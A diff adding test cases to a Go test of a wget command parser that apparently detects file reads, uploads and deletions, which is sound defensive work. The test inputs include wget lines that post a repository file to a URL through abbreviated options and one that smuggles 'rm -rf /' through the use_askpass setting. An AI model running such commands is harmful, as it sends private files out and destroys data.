@@ -28,6 +28,9 @@ func TestParseWgetCommands(t *testing.T) {
 		{"config /dev/null", `wget --config=/dev/null https://e`, want{anyCmds: true, urls: u}, more{}},
 		{"WGETRC", `WGETRC=cfg wget https://e`, want{anyCmds: true, reads: []string{"ROOT/repo/cfg"}, urls: u, incomplete: true}, more{unknown: []string{"WGETRC WGETRC=cfg"}}},
 		{"WGETRC with --no-config", `WGETRC=cfg wget --no-config https://e`, want{anyCmds: true, urls: u}, more{}},
+		{"--execute abbreviated", `wget --exec=post_file=main.go https://e`, want{anyCmds: true, reads: []string{"ROOT/repo/main.go"}, urls: u}, more{uploads: []string{"ROOT/repo/main.go"}}},
+		{"--post-file abbreviated", `wget --post-f main.go https://e`, want{anyCmds: true, reads: []string{"ROOT/repo/main.go"}, urls: u}, more{uploads: []string{"ROOT/repo/main.go"}}},
+		{"ambiguous prefix", `wget --wa=1 https://e`, want{anyCmds: true, urls: u, incomplete: true}, more{unknown: []string{"wget --wa ..."}}},
 		{"use_askpass", `wget -e 'use_askpass = rm -rf /' https://e`, want{anyCmds: true, deletes: []string{"/"}, urls: u}, more{options: []string{"rm --recursive", "rm --force"}}},
 	}
 	for _, tt := range tests {
